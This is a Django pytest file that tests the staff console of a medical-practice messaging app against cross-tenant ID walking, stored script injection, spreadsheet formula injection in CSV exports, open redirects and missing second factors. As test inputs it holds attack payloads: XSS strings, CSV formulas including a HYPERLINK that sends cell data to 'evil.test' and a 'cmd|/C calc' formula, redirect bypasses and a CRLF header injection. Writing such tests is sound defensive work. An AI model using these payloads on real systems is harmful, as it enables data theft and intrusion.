"""What an attacker with a log-in, or with a phone, tries on the staff pages: docs/security.md tells the outcomes."""

import csv
import io
import json
import re
from datetime import timedelta
from html import escape

import pytest
from django.test import Client

from replywell.audit.models import AuditEvent
from replywell.audit.record import record
from replywell.common import clock
from replywell.common.tenancy import practice_scope
from replywell.console import csv_safe
from replywell.console.models import AccessRules
from replywell.console.rights import Right, needed
from replywell.console.setup.overview import without_second_factor
from replywell.dialogue.models import TaskNote
from replywell.messaging import saved, templates
from replywell.messaging.models import Message
from replywell.patients.models import Contact, Intake, IntakeDocument, Patient
from replywell.practices import triage, triage_tables
from replywell.practices.models import Location, Practice, Role, Staff
from replywell.processes import doctor
from replywell.processes.login import set_login
from replywell.scheduling.models import AppointmentType, Schedule
from replywell.scheduling.waitlist_models import Backfill, WaitlistEntry
from tests.console.access import add_staff, client, give_login, logged_in, set_up_app
from tests.console.site import PASSWORD
from tests.console.test_access_rights import Talk, addresses
from tests.practice import Oak, make_practice, make_visit

PLACE = re.compile(r"<(?:uuid|int|str|slug):(\w+)>")
CODES = {
    "practice_code": "oak", "example_code": "dermatology", "symptom": "cough", "question": "days",
    "question_key": "who", "name": "identity",
}  # fmt: skip
"""What stands in addresses as a code."""
NOBODYS = {"key", "token", "pk", *CODES}
"""Stand for no row of a practice: a text's name, a secret, one's own passkey, codes."""


@pytest.fixture
def oak(db: None) -> Oak:
    """Oak Street with a manager; second factors are asked of nobody."""
    made = make_practice()
    give_login(made.anna, "anna")
    with practice_scope(made.id):
        AccessRules.objects.create(practice=made.practice, second_factor_roles=[])
        templates.install(made.id, clock.now())
    add_staff(made, "mona", Role.MANAGER, "Mona Fox")
    return made


def rows_of(oak: Oak) -> dict[str, str]:
    """A row of the practice for every name that stands in an address."""
    talk = Talk(oak)
    message = talk.text("is there parking?")
    task = talk.task("front_desk", message)
    visit = make_visit(oak, talk.patient, clock.now() + timedelta(days=3))
    with practice_scope(oak.id):
        note = TaskNote.objects.create(
            practice=oak.practice, conversation=talk.row, author=oak.anna, body="Likes tea", at=clock.now()
        )
        reply = saved.save(oak.practice, oak.anna, "Parking", {"en": "Behind the house."}, now=clock.now())
        waits = WaitlistEntry.objects.create(
            practice=oak.practice, patient=talk.patient, contact=talk.row.contact, type=oak.visit_type,
            joined_at=clock.now(), joined_via="staff",
        )  # fmt: skip
        freed = Backfill.objects.create(
            practice=oak.practice, type=oak.visit_type, location=oak.location, starts_at=visit.starts_at,
            ends_at=visit.ends_at, started_at=clock.now(), ended_at=clock.now(), status="ended",
        )  # fmt: skip
        table = triage_tables.copy(
            oak.id, triage.shipped()["paediatrics"], name="Our children", actor="staff:anna", now=clock.now()
        )
        told = Intake.objects.create(
            practice=oak.practice, patient=talk.patient, started_at=clock.now(), saved_at=clock.now()
        )
        picture = IntakeDocument.objects.create(
            practice=oak.practice, intake=told, kind="insurance_front", media_type="image/png", size=1, content=b"p"
        )
    found = {
        "public_id": talk.row, "task_id": task, "visit_id": visit, "patient_id": talk.patient, "text_id": message,
        "note_id": note, "reply_id": reply, "location_id": oak.location, "practitioner_id": oak.lee,
        "schedule_id": oak.lee_schedule, "type_id": oak.visit_type, "number_id": oak.number,
        "contact_id": talk.row.contact, "entry_id": waits, "backfill_id": freed, "table_id": table,
        "document_id": picture,
    }  # fmt: skip
    return CODES | {name: str(row.public_id) for name, row in found.items()}


def filled(address: str, ids: dict[str, str], oak: Oak) -> str:
    """The address with the practice's rows in it."""
    own = ids | ({"public_id": str(oak.anna.public_id)} if address.startswith("settings/staff/") else {})
    unknown = set(PLACE.findall(address)) - own.keys()
    assert not unknown, f"{address}: add a row of another practice for {unknown} to rows_of"
    return "/" + PLACE.sub(lambda found: own[found[1]], address)


# Walking ids


def test_another_practices_rows_are_404_at_every_address_that_names_one(oak: Oak) -> None:
    ids = rows_of(oak)
    elm = make_practice("elm", "+12125550200")
    with practice_scope(elm.id):
        AccessRules.objects.create(practice=elm.practice, second_factor_roles=[])
        templates.install(elm.id, clock.now())
        Staff.objects.filter(pk=elm.nurse.pk).update(role=Role.MANAGER)
    give_login(elm.nurse, "elsa")
    stranger, own = logged_in("elsa"), logged_in("mona")
    with practice_scope(oak.id):
        before = (Message.objects.count(), AuditEvent.objects.count())
    walked = 0
    for address, _view in addresses():
        if not set(PLACE.findall(address)) - NOBODYS or "<str:token>" in address:
            continue  # by a signed link: tests of the public pages
        target = filled(address, ids, oak)
        for method in (stranger.get, stranger.post):
            status = method(target).status_code
            assert status in (404, 405), (target, status)
        walked += 1
    assert walked > 40
    for query in ("/inbox/changes/?c=", "/audit/?about=", "/inbox/search/?q=parking&c="):
        answer = stranger.get(query + ids["public_id"])
        assert answer.status_code == 404 or b"is there parking?" not in answer.content, query
    with practice_scope(oak.id):
        assert (Message.objects.count(), AuditEvent.objects.count()) == before
    # The same rows are there for those whose they are: what was walked are no empty names.
    for address, view in addresses():
        named = set(PLACE.findall(address)) - NOBODYS and "<str:token>" not in address
        if "/newcomer/" in address:
            continue  # there only while a newcomer is asked: tests/newcomers
        if named and needed(view, "GET") is not Right.CLINICAL:  # type: ignore[arg-type]
            target = filled(address, ids, oak)
            assert own.get(target).status_code != 404, target


def test_ids_that_nobody_has_are_404_too(oak: Oak) -> None:
    mona = logged_in("mona")
    none = "00000000-0000-4000-8000-000000000000"
    for address, _view in addresses():
        if set(PLACE.findall(address)) - NOBODYS:
            target = "/" + PLACE.sub(none, address)
            assert mona.get(target).status_code in (404, 405), target
    for odd in (
        "/settings/locations/1/",
        "/settings/wordings/no.such/",
        "/inbox/../settings/",
        "/settings/numbers/%00/",
    ):
        assert mona.get(odd).status_code == 404, odd


# Script in what people write


SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def test_script_in_a_text_a_name_or_a_note_stays_words_on_every_page(oak: Oak) -> None:
    """Stored by whoever can write: a patient by text, staff in notes and names."""
    ids = rows_of(oak)
    with practice_scope(oak.id):
        Message.objects.update(body=SCRIPT)
        Patient.objects.update(first_name=SCRIPT, last_name=SCRIPT)
        TaskNote.objects.update(body=SCRIPT)
        Contact.objects.update(zone="")
        Staff.objects.filter(code="anna").update(name=SCRIPT)
        Location.objects.update(name=SCRIPT, address=SCRIPT)
        Schedule.objects.update(name=SCRIPT)
        AppointmentType.objects.update(name=SCRIPT)
        Practice.objects.update(paused_at=clock.now(), paused_reason=SCRIPT)
    set_login(oak.id, "mona", "mona", PASSWORD)
    mona = logged_in("mona")
    opened = 0
    for address, _view in addresses():
        names = set(PLACE.findall(address))
        if names & {"token", "pk"} or address.startswith(("logout", "link/")):
            continue
        page = mona.get(filled(address, ids | {"key": "visit.confirm"}, oak))
        assert page.status_code < 500, address
        if page.status_code == 200 and page.headers["Content-Type"].startswith("text/html"):
            words = page.content.decode()
            assert "<script>alert" not in words, address
            assert "<img src=x" not in words, address
            assert "unsafe" not in page.headers["Content-Security-Policy"], address
            opened += escape(SCRIPT) in words or "&lt;script&gt;" in words
    assert opened > 10


# Formulas in exports


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("http://evil.test?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
        "  =1+1", "\ufeff=1+1", "＝1+1", "|calc", "%0A=1",
    ],
)  # fmt: skip
def test_no_cell_of_an_export_begins_a_formula(words: str) -> None:
    table = "".join(csv_safe.lines([[words, "plain", 3, None]])).removeprefix("\ufeff")
    cells = next(csv.reader(io.StringIO(table, newline="")))
    assert cells[0] == f"'{words}"
    assert cells[1:] == ["plain", "3", ""]


def test_the_trails_export_is_safe_for_spreadsheets_and_is_audited(oak: Oak) -> None:
    with practice_scope(oak.id):
        Staff.objects.filter(code="anna").update(name='=cmd|"/C calc"!A1')
        record(oak.id, "note.written", f"staff:{oak.anna.pk}", actor="staff:anna", at=clock.now(), words='"\n=1+1,x')
    answer = logged_in("mona").get("/audit/export/")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    note = next(row for row in rows if row[5] == "note.written")
    assert note[1] == '\'=cmd|"/C calc"!A1'
    assert json.loads(note[7]) == {"words": '"\n=1+1,x'}
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    with practice_scope(oak.id):
        assert AuditEvent.objects.get(verb="audit.exported").actor == "staff:mona"
    assert logged_in("mona").get("/audit/export/?from=2026-13-01").status_code == 400
    assert logged_in("anna").get("/audit/export/").status_code == 403


# Leading elsewhere


PAGES = ("/login/", "/logout/", "/preferences/", "/practices/", "/session/stay/", "/demo/as/", "/settings/")


ELSEWHERE = [
        "https://evil.test/", "//evil.test/", "///evil.test", "/\\evil.test", "\\\\evil.test", "https:evil.test",
        "javascript:alert(1)", "http://localhost@evil.test/", "\thttps://evil.test", "/%09/evil.test",
        "data:text/html,x", "/inbox/\r\nSet-Cookie: a=b",
    ]  # fmt: skip


def test_no_page_leads_to_another_site(oak: Oak) -> None:
    mona, nobody = logged_in("mona"), client()
    for onward in ELSEWHERE:
        for browser in (mona, nobody):
            for address in (
                "/login/",
                "/logout/",
                "/preferences/",
                "/practices/",
                "/session/stay/",
                "/demo/as/",
                "/settings/",
            ):
                for send in (browser.get, browser.post):
                    answer = send(address, {"next": onward, "theme": "dark", "practice": str(oak.practice.public_id)})
                    place = answer.headers.get("Location", "") or answer.headers.get("HX-Redirect", "")
                    assert re.match(r"/(?![/\\\t])|$", place), (address, place)
                    assert "Set-Cookie: a=b" not in str(answer.headers.get("Location", ""))


def test_an_address_of_another_host_is_refused(oak: Oak) -> None:
    answer = Client(SERVER_NAME="evil.test").get("/login/")
    assert answer.status_code == 400


# Second factors that are missing


def test_doctor_and_overview_name_who_needs_a_second_factor_and_has_none(oak: Oak) -> None:
    with practice_scope(oak.id):
        AccessRules.objects.update(second_factor_roles=["manager", "clinical"])
    add_staff(oak, "max", Role.MANAGER, "Max Ray")
    words = [finding.words for finding in doctor.findings() if not finding.good]
    assert "oak: Max Ray (manager) has no second factor: the next log-in sets one up" in words
    assert "oak: Mona Fox (manager) has no second factor: the next log-in sets one up" in words
    assert not any("Nia Cole" in one for one in words), "she has no log-in, so nothing to protect"
    set_up_app(logged_in("mona"))
    with practice_scope(oak.id):
        assert [one.name for one in without_second_factor()] == ["Max Ray"]
    assert "no second factor yet: Max Ray" in logged_in("mona").get("/settings/").content.decode()
